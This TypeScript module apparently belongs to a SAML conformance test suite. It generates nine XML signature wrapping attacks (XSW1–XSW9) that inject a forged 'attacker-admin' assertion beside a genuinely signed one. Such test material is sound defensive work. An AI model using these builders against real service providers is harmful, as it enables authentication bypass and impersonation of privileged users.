/**
 * XML signature wrapping (XSW) builders: each takes a Response signed by the genuine IdP and returns the
 * attack shape of security-conformance.md §3.2, with an "evil" identity (`evilNameId`) placed where a
 * careless verifier would read it while the genuine signature still verifies over the original element.
 *
 * | id    | needs            | shape |
 * |-------|------------------|-------|
 * | XSW1  | signed Response  | evil Response keeps the Signature; the original Response is cloned inside the Signature |
 * | XSW2  | signed Response  | as XSW1, the original placed inside the evil Response before the Signature (detached) |
 * | XSW3  | signed Assertion | evil Assertion (new ID) inserted before the signed one |
 * | XSW4  | signed Assertion | evil Assertion replaces it; the original nested inside the evil one |
 * | XSW5  | signed Assertion | evil Assertion carries the Signature; the original (unsigned copy) appended to the Response |
 * | XSW6  | signed Assertion | evil Assertion carries the Signature; the original placed inside the Signature |
 * | XSW7  | signed Assertion | `samlp:Extensions` holding an evil Assertion with the SAME ID as the signed one |
 * | XSW8  | signed Assertion | evil Assertion carries the Signature; the original inside a `ds:Object` of it |
 * | XSW9  | signed Assertion | decoy second Signature repeating the genuine SignatureValue, evil Assertion in its `ds:Object` |
 */
import {
  NS,
  child,
  descendants,
  evilClone,
  insertAfter,
  parseXml,
  removeOwnSignature,
  responseParts,
  serialize,
} from './dom.ts';

/** The identity an attacker would like the SP to read. */
export const evilNameId = 'conformance-attacker-admin';

/** The wrapping variants. */
export const XSW_VARIANTS = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8', 'XSW9'] as const;
/** One of `XSW_VARIANTS`. */
export type XswVariant = (typeof XSW_VARIANTS)[number];

/** Whether a variant needs the IdP to sign the Response (XSW1/2) rather than the Assertion. */
export function xswNeedsSignedResponse(variant: XswVariant): boolean {
  return variant === 'XSW1' || variant === 'XSW2';
}

/**
 * Applies one wrapping variant.
 *
 * @example const hostile = wrapSignature('XSW3', signedResponseXml);
 */
export function wrapSignature(variant: XswVariant, xml: string): string {
  const doc = parseXml(xml);
  const { response, assertion } = responseParts(doc);
  const dsObject = () => doc.createElementNS(NS.dsig, 'ds:Object');

  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      const signature = child(response, NS.dsig, 'Signature');
      if (signature === undefined) throw new Error(`${variant} needs a signed Response`);
      // the signed original as the signature covered it: without the signature itself (the enveloped transform took it out)
      const original = response.cloneNode(true) as typeof response;
      removeOwnSignature(original);
      // the evil Response: new IDs (one element per ID in the document), no signature of its own anywhere (a broken
      // Assertion signature would be refused for itself, never for the wrapping), the evil NameID
      const evil = evilClone(response, evilNameId);
      for (const nested of descendants(evil, NS.dsig, 'Signature')) nested.parentNode!.removeChild(nested);
      for (const inner of descendants(evil, NS.assertion, 'Assertion'))
        inner.setAttribute('ID', `_evil${Math.random().toString(16).slice(2)}`);
      // The evil Response takes the place of the root and holds the genuine signature, right after its Issuer
      insertAfter(signature, child(evil, NS.assertion, 'Issuer')!);
      // the signed original: inside the Signature (XSW1), or inside the evil Response before it (XSW2)
      if (variant === 'XSW1') signature.appendChild(original);
      else evil.insertBefore(original, signature);
      doc.replaceChild(evil, response);
      break;
    }
    case 'XSW3': {
      response.insertBefore(evilClone(assertion, evilNameId), assertion);
      break;
    }
    case 'XSW4': {
      const evil = evilClone(assertion, evilNameId);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 'XSW5':
    case 'XSW6':
    case 'XSW8': {
      const evil = evilClone(assertion, evilNameId);
      const signature = removeOwnSignature(assertion);
      if (signature === undefined) throw new Error(`${variant} needs a signed Assertion`);
      insertAfter(signature, child(evil, NS.assertion, 'Issuer')!);
      response.replaceChild(evil, assertion);
      if (variant === 'XSW5') response.appendChild(assertion);
      else if (variant === 'XSW6') signature.appendChild(assertion);
      else signature.appendChild(dsObject()).appendChild(assertion);
      break;
    }
    case 'XSW7': {
      const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
      extensions.appendChild(evilClone(assertion, evilNameId, { keepId: true }));
      insertAfter(extensions, child(response, NS.assertion, 'Issuer')!);
      break;
    }
    case 'XSW9': {
      const genuine = child(assertion, NS.dsig, 'Signature');
      if (genuine === undefined) throw new Error('XSW9 needs a signed Assertion');
      const decoy = genuine.cloneNode(true) as typeof genuine;
      for (const info of descendants(decoy, NS.dsig, 'KeyInfo')) info.parentNode!.removeChild(info);
      decoy.appendChild(dsObject()).appendChild(evilClone(assertion, evilNameId));
      insertAfter(decoy, genuine);
      break;
    }
    default: {
      const unknown: never = variant;
      throw new Error(`unknown wrapping variant ${String(unknown)}`);
    }
  }
  return serialize(doc);
}
